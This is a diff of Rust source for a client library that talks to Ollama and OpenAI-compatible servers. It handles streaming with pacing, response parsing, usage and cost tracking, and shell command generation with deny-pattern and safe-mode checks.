+        let (first, last) = (self.chunks.first()?, self.chunks.last()?);
+        let span = last.saturating_sub(*first).as_secs_f64();
+        (span > 0.0).then(|| (self.chunks.len() - 1) as f64 / span)
+    }
+}
+
+impl fmt::Display for StreamTimings {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self.time_to_first_token() {
+            Some(first) => write!(f, "first token after {} ms", first.as_millis())?,
+            None => write!(f, "no output")?,
+        }
+        if let Some(rate) = self.tokens_per_sec() {
+            write!(f, ", {:.1} tokens/s", rate)?;
+        }
+        Ok(())
+    }
+}
+
+/// Represents a streaming response from the LLM
+#[derive(Debug)]
+pub struct StreamingResponse {
+    pub receiver: mpsc::Receiver<StreamChunk>,
+    pub final_response: Arc<Mutex<Option<String>>>,
+    /// Chunk arrival times, filled in as the stream runs; only recorded when the
+    /// client was configured with `stream_timings`
+    pub timings: Option<Arc<Mutex<StreamTimings>>>,
+    /// Resolved by the stream task with the full response or the error that ended it
+    completion: oneshot::Receiver<Result<LlmResponse, String>>,
+}
+
+impl StreamingResponse {
+    /// A stream of the text pieces produced by a backend
+    ///
+    /// `on_done` is given the complete response once the backend finishes; the stream
+    /// ends early with `StreamError::Aborted` if `cancel` fires first. When `timings` is
+    /// set, the arrival of each non-empty piece is recorded relative to `start`.
+    fn from_pieces(mut pieces: mpsc::Receiver<Result<StreamPiece>>,
+                   cancel: CancellationToken,
+                   start: Instant,
+                   timings: Option<Arc<Mutex<StreamTimings>>>,
+                   on_done: impl FnOnce(&LlmResponse) + Send + 'static) -> Self {
+        let (tx, receiver) = mpsc::channel(100);
+        let timings_clone = timings.clone();
+        let final_response = Arc::new(Mutex::new(None));
+        let final_response_clone = final_response.clone();
+        let (done_tx, completion) = oneshot::channel();
+        
+        tokio::spawn(async move {
+            let mut text = String::new();
+            let mut done_reason = None;
+            let mut usage = None;
+            let mut failure = None;
+            loop {
+                let piece = tokio::select! {
+                    piece = pieces.recv() => match piece {
+                        Some(piece) => piece,
+                        None => break,
+                    },
+                    _ = cancel.cancelled() => {
+                        let _ = tx.send(StreamChunk::Error(StreamError::Aborted)).await;
+                        failure = Some(ABORTED_MESSAGE.to_string());
+                        break;
+                    }
+                };
+                match piece {
+                    Ok(StreamPiece::Text(piece)) => {
+                        if let (Some(timings), false) = (&timings_clone, piece.is_empty()) {
+                            if let Ok(mut guard) = timings.lock() {
+                                guard.chunks.push(start.elapsed());
+                            }
+                        }
+                        text.push_str(&piece);
+                        if tx.send(StreamChunk::Token(piece)).await.is_err() {
+                            failure = Some(RECEIVER_DROPPED_MESSAGE.to_string());
+                            break;
+                        }
+                    }
+                    Ok(StreamPiece::Finished { done_reason: reason, usage: counted }) => {
+                        done_reason = reason;
+                        usage = counted;
+                    }
+                    Err(e) => {
+                        let error = StreamError::MidStream(format!("{:#}", e));
+                        let _ = tx.send(StreamChunk::Error(error.clone())).await;
+                        failure = Some(error.to_string());
+                        break;
+                    }
+                }
+            }
+            
+            if let Ok(mut guard) = final_response_clone.lock() {
+                *guard = Some(text.clone());
+            }
+            let outcome = match failure {
+                Some(message) => Err(message),
+                None => {
+                    let response = LlmResponse { text, done_reason, usage, eval_duration: None };
+                    on_done(&response);
+                    let _ = tx.send(StreamChunk::Done).await;
+                    Ok(response)
+                }
+            };
+            let _ = done_tx.send(outcome);
+        });
+        
+        Self {
+            receiver,
+            final_response,
+            timings,
+            completion,
+        }
+    }
+
+    /// Wait for the stream task to finish and return the complete response text
+    ///
+    /// Typically called after draining `receiver`. Any tokens not yet received are
+    /// discarded, but the full text is still returned.
+    pub fn into_final(self) -> impl Future<Output = Result<String>> {
+        let response = self.into_response();
+        async move { Ok(response.await?.text) }
+    }
+
+    /// Like `into_final`, but with what the server said about the finished response:
+    /// why it stopped, tokens used and time spent generating
+    pub fn into_response(self) -> impl Future<Output = Result<LlmResponse>> {
+        let StreamingResponse { mut receiver, completion, .. } = self;
+        async move {
+            // Keep reading so the task never waits on a full channel; dropping the
+            // receiver instead would tell the task to give up
+            while receiver.recv().await.is_some() {}
+            completion.await
+                .context("Stream task ended without a response")?
+                .map_err(anyhow::Error::msg)
+        }
+    }
+
+    /// Meter tokens out at a steady `chars_per_sec` for a typewriter effect
+    ///
+    /// Bursts from the model are buffered and released a little at a time; when the
+    /// backlog grows the pacer speeds up so output never falls far behind. Errors and
+    /// `Done` are forwarded once the buffered text has been released. A rate of 0
+    /// returns the stream unchanged.
+    pub fn paced(self, chars_per_sec: u32) -> Self {
+        if chars_per_sec == 0 {
+            return self;
+        }
+        
+        let StreamingResponse { mut receiver, final_response, timings, completion } = self;
+        let (tx, rx) = mpsc::channel(100);
+        
+        tokio::spawn(async move {
+            let mut ticker = tokio::time::interval(Duration::from_secs_f64(1.0 / chars_per_sec as f64));
+            ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);
+            let mut pending: VecDeque<char> = VecDeque::new();
+            let mut upstream_open = true;
+            let mut end = None;
+            
+            loop {
+                tokio::select! {
+                    chunk = receiver.recv(), if upstream_open && end.is_none() => match chunk {
+                        Some(StreamChunk::Token(text)) => pending.extend(text.chars()),
+                        Some(last) => end = Some(last),
+                        None => upstream_open = false,
+                    },
+                    _ = ticker.tick(), if !pending.is_empty() => {
+                        let count = (pending.len() / PACE_CATCH_UP_TICKS).max(1);
+                        let text: String = pending.drain(..count).collect();
+                        if tx.send(StreamChunk::Token(text)).await.is_err() {
+                            return;
+                        }
+                    },
+                    else => break,
+                }
+            }
+            
+            if let Some(last) = end {
+                let _ = tx.send(last).await;
+            }
+        });
+        
+        StreamingResponse {
+            receiver: rx,
+            final_response,
+            timings,
+            completion,
+        }
+    }
+}
+
+/// Request body for the Ollama API
+#[derive(Debug, Serialize)]
+struct OllamaRequest {
+    model: String,
+    prompt: String,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    system: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    stream: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    options: Option<OllamaOptions>,
+    /// How long Ollama keeps the model loaded after the request (e.g. "30m")
+    #[serde(skip_serializing_if = "Option::is_none")]
+    keep_alive: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+struct OllamaOptions {
+    /// Left out when not configured, so the model's template default applies
+    #[serde(skip_serializing_if = "Option::is_none")]
+    temperature: Option<f32>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    top_p: Option<f32>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    top_k: Option<u32>,
+    /// Ollama calls the generation limit `num_predict`
+    #[serde(rename = "num_predict", skip_serializing_if = "Option::is_none")]
+    max_tokens: Option<u32>,
+    /// Sequences that end generation; they are not included in the response
+    #[serde(skip_serializing_if = "Option::is_none")]
+    stop: Option<Vec<String>>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    seed: Option<u64>,
+    /// Context window size in tokens
+    #[serde(skip_serializing_if = "Option::is_none")]
+    num_ctx: Option<u32>,
+}
+
+/// Request structure for the Ollama `/api/chat` endpoint
+#[derive(Debug, Serialize)]
+struct ChatRequest {
+    model: String,
+    messages: Vec<ChatMessage>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    stream: Option<bool>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    options: Option<OllamaOptions>,
+}
+
+/// Body of a non-streaming request to either endpoint
+#[derive(Debug, Serialize)]
+#[serde(untagged)]
+enum GenerateBody {
+    Generate(OllamaRequest),
+    Chat(ChatRequest),
+}
+
+/// One message of a chat request or response
+#[derive(Debug, Serialize, Deserialize)]
+struct ChatMessage {
+    role: String,
+    content: String,
+}
+
+/// Response from the Ollama `/api/chat` endpoint
+#[derive(Debug, Deserialize)]
+struct ChatResponse {
+    #[serde(default)]
+    model: String,
+    message: ChatMessage,
+    #[serde(default)]
+    done: bool,
+    #[serde(default)]
+    done_reason: Option<String>,
+    #[serde(default)]
+    prompt_eval_count: Option<u64>,
+    #[serde(default)]
+    eval_count: Option<u64>,
+    #[serde(default)]
+    eval_duration: Option<u64>,
+}
+
+/// Request to the Ollama `/api/embed` endpoint
+#[derive(Debug, Serialize)]
+struct EmbedRequest<'a> {
+    model: &'a str,
+    input: &'a [String],
+}
+
+/// Response from the Ollama `/api/embed` endpoint: one vector per input, in order
+#[derive(Debug, Deserialize)]
+struct EmbedResponse {
+    embeddings: Vec<Vec<f32>>,
+}
+
+/// Response from the Ollama `/api/show` endpoint, reduced to the fields we use
+#[derive(Debug, Deserialize)]
+struct ShowResponse {
+    /// Model metadata such as "llama.context_length"
+    #[serde(default)]
+    model_info: HashMap<String, serde_json::Value>,
+}
+
+/// Body Ollama sends with a failed request: `{"error": "..."}`
+#[derive(Debug, Deserialize)]
+struct ErrorBody {
+    error: String,
+}
+
+/// A non-success response from the Ollama API or an OpenAI-compatible server
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ApiError {
+    /// Which API answered
+    pub api: ApiFormat,
+    /// HTTP status code
+    pub status: u16,
+    /// The server's error message, or the raw body if it wasn't the usual JSON
+    pub message: String,
+}
+
+impl ApiError {
+    /// Build the error from a response's status and body
+    pub fn from_body(status: u16, body: &str) -> Self {
+        let message = match serde_json::from_str::<ErrorBody>(body) {
+            Ok(body) => body.error,
+            Err(_) if body.trim().is_empty() => "Unknown error".to_string(),
+            Err(_) => body.trim().to_string(),
+        };
+        Self { api: ApiFormat::Ollama, status, message }
+    }
+
+    /// Read a failed response into an error
+    async fn from_response(response: reqwest::Response) -> Self {
+        let status = response.status().as_u16();
+        match response.text().await {
+            Ok(body) => Self::from_body(status, &body),
+            Err(e) => Self { api: ApiFormat::Ollama, status, message: format!("Failed to read error response: {}", e) },
+        }
+    }
+}
+
+impl fmt::Display for ApiError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self.api {
+            ApiFormat::Ollama => write!(f, "Ollama API error ({}): {}", self.status, self.message),
+            ApiFormat::OpenAi => write!(f, "OpenAI-compatible API error ({}): {}", self.status, self.message),
+        }
+    }
+}
+
+impl std::error::Error for ApiError {}
+
+/// Response from the Ollama `/api/tags` endpoint
+#[derive(Debug, Deserialize)]
+struct TagsResponse {
+    models: Vec<TagsModel>,
+}
+
+/// A locally installed model as listed by `/api/tags`
+#[derive(Debug, Deserialize)]
+struct TagsModel {
+    name: String,
+    #[serde(default)]
+    digest: Option<String>,
+}
+
+/// An installed model and the digest Ollama reports for it
+#[derive(Debug, Clone, PartialEq)]
+pub struct InstalledModel {
+    pub name: String,
+    pub digest: Option<String>,
+}
+
+impl InstalledModel {
+    /// Whether `model` is pinned to a digest other than the installed one
+    ///
+    /// Unpinned models, and models whose digest isn't reported, never differ.
+    pub fn differs_from_pin(&self, model: &str) -> bool {
+        match (split_model_digest(model).1, self.digest.as_deref()) {
+            (Some(pinned), Some(digest)) => !digest_matches(digest, pinned),
+            _ => false,
+        }
+    }
+}
+
+/// Response from the Ollama API
+#[derive(Debug, Deserialize)]
+struct OllamaResponse {
+    #[allow(dead_code)]
+    model: String,
+    response: String,
+    #[serde(default)]
+    done: bool,
+    /// Why generation stopped ("stop", "length", "load")
+    #[serde(default)]
+    done_reason: Option<String>,
+    /// Tokens in the prompt, reported on the final response
+    #[serde(default)]
+    prompt_eval_count: Option<u64>,
+    /// Tokens generated, reported on the final response
+    #[serde(default)]
+    eval_count: Option<u64>,
+    /// Nanoseconds spent generating those tokens, reported on the final response
+    #[serde(default)]
+    eval_duration: Option<u64>,
+}
+
+impl OllamaResponse {
+    /// Token counts, if the response reports them
+    fn usage(&self) -> Option<TokenUsage> {
+        if self.prompt_eval_count.is_none() && self.eval_count.is_none() {
+            return None;
+        }
+        Some(TokenUsage {
+            input_tokens: self.prompt_eval_count.unwrap_or(0),
+            output_tokens: self.eval_count.unwrap_or(0),
+        })
+    }
+
+    /// Time spent generating, if reported
+    fn eval_duration(&self) -> Option<Duration> {
+        self.eval_duration.map(Duration::from_nanos)
+    }
+
+    /// Why generation stopped, if reported
+    fn done_reason(&self) -> Option<DoneReason> {
+        self.done_reason.as_deref().map(DoneReason::parse)
+    }
+}
+
+/// Response body from an OpenAI-compatible server such as LM Studio or llama.cpp
+#[derive(Debug, Deserialize)]
+pub(crate) struct OpenAiResponse {
+    #[serde(default)]
+    pub(crate) model: String,
+    #[serde(default)]
+    pub(crate) choices: Vec<OpenAiChoice>,
+    #[serde(default)]
+    pub(crate) usage: Option<OpenAiUsage>,
+}
+
+/// One completion choice: chat responses carry `message`, streamed chunks `delta`
+/// and plain completions `text`
+#[derive(Debug, Deserialize)]
+pub(crate) struct OpenAiChoice {
+    #[serde(default)]
+    pub(crate) message: Option<OpenAiMessage>,
+    #[serde(default)]
+    pub(crate) delta: Option<OpenAiMessage>,
+    #[serde(default)]
+    pub(crate) text: Option<String>,
+    #[serde(default)]
+    pub(crate) finish_reason: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+pub(crate) struct OpenAiMessage {
+    #[serde(default)]
+    pub(crate) content: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+pub(crate) struct OpenAiUsage {
+    #[serde(default)]
+    pub(crate) prompt_tokens: u64,
+    #[serde(default)]
+    pub(crate) completion_tokens: u64,
+}
+
+impl From<&OpenAiUsage> for TokenUsage {
+    fn from(usage: &OpenAiUsage) -> Self {
+        TokenUsage { input_tokens: usage.prompt_tokens, output_tokens: usage.completion_tokens }
+    }
+}
+
+impl From<OpenAiResponse> for OllamaResponse {
+    fn from(response: OpenAiResponse) -> Self {
+        let choice = response.choices.into_iter().next();
+        let finish_reason = choice.as_ref().and_then(|c| c.finish_reason.clone());
+        let text = choice
+            .and_then(|c| {
+                c.message.and_then(|m| m.content)
+                    .or_else(|| c.delta.and_then(|d| d.content))
+                    .or(c.text)
+            })
+            .unwrap_or_default();
+        Self {
+            model: response.model,
+            response: text,
+            done: finish_reason.is_some(),
+            done_reason: finish_reason,
+            prompt_eval_count: response.usage.as_ref().map(|u| u.prompt_tokens),
+            eval_count: response.usage.as_ref().map(|u| u.completion_tokens),
+            eval_duration: None,
+        }
+    }
+}
+
+impl From<ChatResponse> for OllamaResponse {
+    fn from(response: ChatResponse) -> Self {
+        Self {
+            model: response.model,
+            response: response.message.content,
+            done: response.done,
+            done_reason: response.done_reason,
+            prompt_eval_count: response.prompt_eval_count,
+            eval_count: response.eval_count,
+            eval_duration: response.eval_duration,
+        }
+    }
+}
+
+/// Parse a generate response body, accepting Ollama's generate and chat shapes and
+/// OpenAI-compatible ones
+///
+/// Servers that stream server-sent events even for non-streaming requests have their
+/// `data:` chunks joined into one response. Anything else is an error quoting the body.
+fn parse_generate_body(body: &str) -> Result<OllamaResponse> {
+    if let Ok(response) = serde_json::from_str::<OllamaResponse>(body) {
+        return Ok(response);
+    }
+    if let Ok(response) = serde_json::from_str::<ChatResponse>(body) {
+        return Ok(response.into());
+    }
+    if let Ok(response) = serde_json::from_str::<OpenAiResponse>(body) {
+        if !response.choices.is_empty() {
+            debug!("Parsed an OpenAI-compatible response");
+            return Ok(response.into());
+        }
+    }
+    
+    let events: Vec<OllamaResponse> = body
+        .lines()
+        .filter_map(|line| line.trim().strip_prefix("data:"))
+        .map(str::trim)
+        .filter(|data| *data != "[DONE]")
+        .filter_map(|data| serde_json::from_str::<OpenAiResponse>(data).ok())
+        .filter(|event| !event.choices.is_empty())
+        .map(OllamaResponse::from)
+        .collect();
+    if !events.is_empty() {
+        debug!("Joined {} server-sent events into one response", events.len());
+        return Ok(events.into_iter().reduce(|mut joined, event| {
+            joined.response.push_str(&event.response);
+            joined.done |= event.done;
+            joined.done_reason = event.done_reason.or(joined.done_reason);
+            joined.prompt_eval_count = event.prompt_eval_count.or(joined.prompt_eval_count);
+            joined.eval_count = event.eval_count.or(joined.eval_count);
+            joined
+        }).expect("events is not empty"));
+    }
+    
+    anyhow::bail!(
+        "Unrecognised response from the API (expected an Ollama or OpenAI-compatible body): {}",
+        truncate_middle(body, 200)
+    )
+}
+
+/// Text of a non-streaming generation and whether it was cut off
+#[derive(Debug)]
+struct Completion {
+    text: String,
+    /// The response exactly as generated, before trimming
+    raw: String,
+    truncated: bool,
+    done_reason: Option<DoneReason>,
+    /// Tokens used, when the server reported them
+    usage: Option<TokenUsage>,
+    /// Time the server spent generating, when it reported it
+    eval_duration: Option<Duration>,
+    /// Correlation ID used in the log lines for this request
+    request_id: String,
+}
+
+impl Completion {
+    fn new(request_id: &str, response: LlmResponse) -> Self {
+        let done_reason = response.done_reason.as_deref().map(DoneReason::parse);
+        Self {
+            truncated: done_reason == Some(DoneReason::Length),
+            done_reason,
+            text: response.text.trim().to_string(),
+            raw: response.text,
+            usage: response.usage,
+            eval_duration: response.eval_duration,
+            request_id: request_id.to_string(),
+        }
+    }
+}
+
+impl OllamaClient {
+    /// Create a new Ollama client with default settings
+    pub fn new() -> Result<Self> {
+        Self::with_config(OllamaConfig::default())
+    }
+
+    /// Create a new Ollama client with custom configuration
+    pub fn with_config(mut config: OllamaConfig) -> Result<Self> {
+        config.model = config.resolve_model(&config.model);
+        
+        // Only the connection is limited here; each non-streaming request sets its own timeout
+        let client = reqwest::Client::builder()
+            .connect_timeout(Duration::from_secs(config.connect_timeout_secs))
+            .default_headers(header_map(&config.headers)?)
+            .build()
+            .context("Failed to create HTTP client")?;
+        
+        // Requests go to api_url plus any extra hosts; the pool drops duplicates
+        let mut urls = vec![config.api_url.clone()];
+        urls.extend(config.hosts.iter().cloned());
+        let hosts = Arc::new(HostPool::new(&urls));
+        
+        let denied_patterns = config.denied_patterns
+            .iter()
+            .map(|pattern| Regex::new(pattern).with_context(|| format!("Invalid denied pattern '{}'", pattern)))
+            .collect::<Result<Vec<_>>>()?;
+
+        let cancel = Arc::new(Mutex::new(CancellationToken::new()));
+        let usage = Arc::new(Mutex::new(CostTracker::new()));
+        let auto_compact_threshold = config.compact_threshold_chars == DEFAULT_COMPACT_THRESHOLD_CHARS;
+        let backend: Option<Arc<dyn LlmBackend>> = match config.api_format {
+            ApiFormat::Ollama => None,
+            ApiFormat::OpenAi => Some(Arc::new(OpenAiBackend::new(client.clone(), &config.api_url))),
+        };
+        Ok(Self {
+            client,
+            config,
+            hosts,
+            denied_patterns,
+            cancel,
+            usage,
+            auto_compact_threshold,
+            backend,
+            recorder: None,
+            queue: None,
+            priority: Priority::Interactive,
+        })
+    }
+
+    /// Token that is cancelled when `abort_all` is called
+    ///
+    /// Tasks spawned on behalf of this client (agent loops, background work) should
+    /// watch this token so a single `abort_all` stops them too.
+    pub fn cancellation_token(&self) -> CancellationToken {
+        self.cancel.lock().map(|token| token.clone()).unwrap_or_default()
+    }
+
+    /// Cancel every in-flight generation started from this client or its clones
+    ///
+    /// Generations started afterwards are unaffected.
+    pub fn abort_all(&self) {
+        if let Ok(mut token) = self.cancel.lock() {
+            token.cancel();
+            *token = CancellationToken::new();
+        }
+        info!("Aborted all in-flight generations");
+    }
+
+    /// Tokens used and approximate cost per model so far this session
+    pub fn usage_breakdown(&self) -> Vec<(String, TokenUsage, f64)> {
+        self.usage.lock()
+            .map(|tracker| tracker.breakdown(&self.config.model_costs))
+            .unwrap_or_default()
+    }
+
+    /// Approximate cost of this session so far, in USD
+    pub fn session_cost(&self) -> f64 {
+        self.usage.lock()
+            .map(|tracker| tracker.total_cost(&self.config.model_costs))
+            .unwrap_or(0.0)
+    }
+
+    /// Set the model to use (allows changing model without recreating client)
+    ///
+    /// `model` may be an alias, which is resolved to its full tag.
+    pub fn set_model(&mut self, model: &str) {
+        self.config.model = self.config.resolve_model(model);
+        info!("Model set to: {}", self.config.model);
+    }
+
+    /// The full model tag for `name`, which may be an alias
+    pub fn resolve_model(&self, name: &str) -> String {
+        self.config.resolve_model(name)
+    }
+
+    /// Send all generations to `backend` instead of the Ollama server
+    pub fn set_backend(&mut self, backend: Arc<dyn LlmBackend>) {
+        self.backend = Some(backend);
+    }
+
+    /// Record every generation and its response with `recorder`
+    pub fn set_recorder(&mut self, recorder: SessionRecorder) {
+        self.recorder = Some(Arc::new(recorder));
+    }
+
+    /// Run generations one at a time through `queue`, serving interactive ones first
+    pub fn set_request_queue(&mut self, queue: RequestQueue) {
+        self.queue = Some(queue);
+    }
+
+    /// A copy of the client whose generations wait behind interactive ones on the request queue
+    pub fn in_background(&self) -> Self {
+        let mut client = self.clone();
+        client.priority = Priority::Background;
+        client
+    }
+
+    /// Wait for this client's turn on the request queue, if one is set
+    async fn queue_slot(&self) -> Result<Option<QueueSlot>> {
+        let Some(queue) = &self.queue else {
+            return Ok(None);
+        };
+        let cancel = self.cancellation_token();
+        tokio::select! {
+            slot = queue.acquire(self.priority) => slot.map(Some),
+            _ = cancel.cancelled() => anyhow::bail!(ABORTED_MESSAGE),
+        }
+    }
+
+    /// Count a generation's tokens and add it to the recording, if one is being made
+    fn record(&self, request: &LlmRequest, response: &LlmResponse) {
+        if let Some(usage) = response.usage {
+            record_usage(&self.usage, &request.model, usage);
+        }
+        if let Some(recorder) = &self.recorder {
+            if let Err(e) = recorder.record(request, response) {
+                warn!("Failed to record response: {:#}", e);
+            }
+        }
+    }
+
+    /// The client's current configuration, including changes made since it was created
+    pub fn config(&self) -> &OllamaConfig {
+        &self.config
+    }
+
+    /// Get the configured model name
+    pub fn model(&self) -> &str {
+        &self.config.model
+    }
+
+    /// Set the temperature for generation
+    ///
+    /// An explicit temperature overrides the adaptive per-request temperature.
+    pub fn set_temperature(&mut self, temperature: f32) {
+        // Clamp temperature to valid range
+        let temp = temperature.clamp(0.0, 1.0);
+        self.config.temperature = Some(temp);
+        self.config.adaptive_temperature = false;
+        debug!("Temperature set to: {}", temp);
+    }
+
+    /// Replace the built-in system prompt for command generation
+    pub fn set_command_system_prompt(&mut self, prompt: &str) {
+        self.config.command_system_prompt = Some(prompt.to_string());
+    }
+
+    /// Replace the built-in system prompt for interpreting output
+    pub fn set_interpret_system_prompt(&mut self, prompt: &str) {
+        self.config.interpret_system_prompt = Some(prompt.to_string());
+    }
+
+    /// Enable or disable the adaptive per-request temperature
+    pub fn set_adaptive_temperature(&mut self, enabled: bool) {
+        self.config.adaptive_temperature = enabled;
+        debug!("Adaptive temperature set to: {}", enabled);
+    }
+
+    /// Temperature to use for a command generation request, None to leave it to the model
+    fn temperature_for(&self, user_input: &str) -> Option<f32> {
+        if self.config.adaptive_temperature {
+            Some(suggest_temperature(user_input))
+        } else {
+            self.config.temperature
+        }
+    }
+
+    /// Context window declared by a model, from the `model_info` returned by `/api/show`
+    ///
+    /// Returns None if the model doesn't report one.
+    pub async fn model_context_length(&self, model: &str) -> Result<Option<u32>> {
+        let payload = serde_json::json!({ "model": split_model_digest(model).0 });
+        let response = self.send_with_failover("/api/show", |url| {
+            self.client.post(url).timeout(self.request_timeout()).json(&payload)
+        }).await?;
+        
+        if !response.status().is_success() {
+            return Err(ApiError::from_response(response).await.into());
+        }
+        
+        let show: ShowResponse = response.json().await
+            .context("Failed to parse Ollama API response")?;
+        // The key is prefixed with the model architecture, e.g. "gemma3.context_length"
+        Ok(show.model_info
+            .iter()
+            .find(|(key, _)| key.ends_with(".context_length"))
+            .and_then(|(_, value)| value.as_u64())
+            .map(|length| length.min(u64::from(u32::MAX)) as u32))
+    }
+
+    /// Size the context window from the current model's declared context length
+    ///
+    /// The window is capped at `MAX_AUTO_NUM_CTX` to keep memory use reasonable, and falls
+    /// back to a conservative default if the model doesn't declare a length. History is
+    /// compacted once it would fill about half the window, unless a threshold was set.
+    /// Returns the chosen window size in tokens.
+    pub async fn auto_num_ctx(&mut self) -> Result<u32> {
+        let declared = self.model_context_length(&self.config.model.clone()).await?;
+        let num_ctx = declared.map_or(FALLBACK_NUM_CTX, |length| length.min(MAX_AUTO_NUM_CTX));
+        info!("Using a context window of {} tokens (model declares {:?})", num_ctx, declared);
+        
+        self.config.num_ctx = Some(num_ctx);
+        if self.auto_compact_threshold {
+            // Roughly four characters per token
+            self.config.compact_threshold_chars = num_ctx as usize * 4 / 2;
+        }
+        Ok(num_ctx)
+    }
+
+    /// Context window size sent with requests, if set
+    pub fn num_ctx(&self) -> Option<u32> {
+        self.config.num_ctx
+    }
+
+    /// Timeout for a whole non-streaming request
+    fn request_timeout(&self) -> Duration {
+        Duration::from_secs(self.config.request_timeout_secs)
+    }
+
+    /// Check if the Ollama service is available
+    pub async fn check_available(&self) -> bool {
+        match self.send_with_failover("/api/tags", |url| self.client.get(url).timeout(self.request_timeout())).await {
+            Ok(response) => response.status().is_success(),
+            Err(e) => {
+                warn!("Ollama service check failed: {:#}", e);
+                false
+            }
+        }
+    }
+
+    /// Set the maximum number of tokens to generate
+    pub fn set_max_tokens(&mut self, max_tokens: u32) {
+        self.config.max_tokens = max_tokens;
+        debug!("Max tokens set to: {}", max_tokens);
+    }
+
+    /// Get the maximum number of tokens to generate
+    pub fn max_tokens(&self) -> u32 {
+        self.config.max_tokens
+    }
+
+    /// Request machine-readable output from tools that support it, or stop with None
+    pub fn set_output_format(&mut self, format: Option<ToolOutputFormat>) {
+        self.config.output_format = format;
+        debug!("Tool output format set to: {:?}", format);
+    }
+
+    /// Machine-readable output format requested from tools, if any
+    pub fn output_format(&self) -> Option<ToolOutputFormat> {
+        self.config.output_format
+    }
+
+    /// Set what result interpretation concentrates on
+    pub fn set_interpret_focus(&mut self, focus: InterpretFocus) {
+        self.config.interpret_focus = focus;
+        debug!("Interpretation focus set to: {}", focus);
+    }
+
+    /// What result interpretation currently concentrates on
+    pub fn interpret_focus(&self) -> InterpretFocus {
+        self.config.interpret_focus
+    }
+
+    /// Operating system generated commands should run on
+    pub fn target_os(&self) -> Platform {
+        self.config.target_os
+    }
+
+    /// Whether a missing model is pulled without asking first
+    pub fn auto_pull(&self) -> bool {
+        self.config.auto_pull
+    }
+
+    /// Whether commands must be explained and confirmed before execution
+    pub fn execute_gate(&self) -> bool {
+        self.config.execute_gate
+    }
+
+    /// Characters per second for paced streaming output (0 when pacing is off)
+    pub fn stream_pace_cps(&self) -> u32 {
+        self.config.stream_pace_cps
+    }
+
+    /// Whether explanations are short summaries rather than detailed breakdowns
+    pub fn concise_explanations(&self) -> bool {
+        self.config.concise_explanations
+    }
+
+    /// Generate a shell command based on a natural language input
+    ///
+    /// A convenience wrapper around `generate_command_detailed` returning only the command.
+    pub async fn generate_command(&self, user_input: &str, history: &[HistoryItem]) -> Result<String> {
+        Ok(self.generate_command_detailed(user_input, history).await?.command)
+    }
+
+    /// Generate a shell command along with token counts and generation speed, if reported
+    pub async fn generate_command_with_stats(&self, user_input: &str, history: &[HistoryItem]) -> Result<(String, Option<GenerationStats>)> {
+        let generated = self.generate_command_detailed(user_input, history).await?;
+        let stats = generated.stats();
+        Ok((generated.command, stats))
+    }
+
+    /// Generate a shell command along with its metadata: the model and parameters used,
+    /// time taken, token usage, risk assessment, raw response and whether it was truncated
+    pub async fn generate_command_detailed(&self, user_input: &str, history: &[HistoryItem]) -> Result<GeneratedCommand> {
+        debug!("Generating command for input: {}", user_input);
+        
+        let prompt = self.build_command_prompt(user_input, history).await;
+        self.generate_checked(user_input, &prompt).await
+    }
+
+    /// The command prompt for a request, with history compressed to `history_token_budget` if set
+    async fn build_command_prompt(&self, user_input: &str, history: &[HistoryItem]) -> String {
+        let mut parts = self.generate_prompt_parts(user_input, history);
+        if let Some(budget) = self.config.history_token_budget.filter(|_| self.config.use_history && !history.is_empty()) {
+            match self.build_compressed_context(user_input, history, budget).await {
+                Ok(context) => parts.history = context,
+                Err(e) => warn!("Could not rank history by relevance, using recent history: {:#}", e),
+            }
+        }
+        parts.prompt()
+    }
+
+    /// Stream the model's response to a command request as it is generated
+    ///
+    /// The prompt matches `generate_command_detailed`, including history compression.
+    /// Tokens arrive on `receiver` exactly as the model writes them; pass the text from
+    /// `into_final` to `finish_command` to get the command to run.
+    pub async fn generate_command_streaming(&self, user_input: &str, history: &[HistoryItem]) -> Result<StreamingResponse> {
+        debug!("Generating command (streaming) for input: {}", user_input);
+        
+        let prompt = self.build_command_prompt(user_input, history).await;
+        self.stream_command(&prompt, &self.command_params(user_input)).await
+    }
+
+    /// Generate a shell command, passing the raw response to `on_token` as it streams in
+    ///
+    /// Built on `generate_command_streaming`, with the same cleaning and checks as
+    /// `generate_command_detailed`, so the command may differ from what was streamed.
+    /// Refusals and deny-list matches are regenerated without streaming.
+    pub async fn generate_command_with_preview(&self, 
+                                               user_input: &str, 
+                                               history: &[HistoryItem], 
+                                               mut on_token: impl FnMut(&str)) -> Result<GeneratedCommand> {
+        debug!("Generating command (streaming) for input: {}", user_input);
+        
+        let prompt = self.build_command_prompt(user_input, history).await;
+        let params = self.command_params(user_input);
+        let start = Instant::now();
+        
+        let mut stream = self.stream_command(&prompt, &params).await?;
+        while let Some(chunk) = stream.receiver.recv().await {
+            match chunk {
+                StreamChunk::Token(text) => on_token(&text),
+                StreamChunk::Error(e) => return Err(e.into()),
+                StreamChunk::Done => break,
+            }
+        }
+        let response = stream.into_response().await?;
+        
+        let command = self.finish_command(&response.text);
+        if self.denied_pattern(&command).is_some() || looks_like_refusal(&command) {
+            warn!("Streamed command was refused or denied, regenerating");
+            return self.generate_checked(user_input, &prompt).await;
+        }
+        info!("Generated command: {}", command);
+        if self.config.safe_mode {
+            check_safe_mode(&command)?;
+        }
+        
+        let done_reason = response.done_reason.as_deref().map(DoneReason::parse);
+        if done_reason == Some(DoneReason::Length) {
+            warn!("Streamed command generation hit the token limit ({} tokens)", self.config.max_tokens);
+        }
+        Ok(GeneratedCommand {
+            risk: assess_command(&command),
+            command,
+            truncated: done_reason == Some(DoneReason::Length),
+            done_reason,
+            params,
+            elapsed: start.elapsed(),
+            usage: response.usage,
+            eval_duration: response.eval_duration,
+            raw: response.text,
+        })
+    }
+
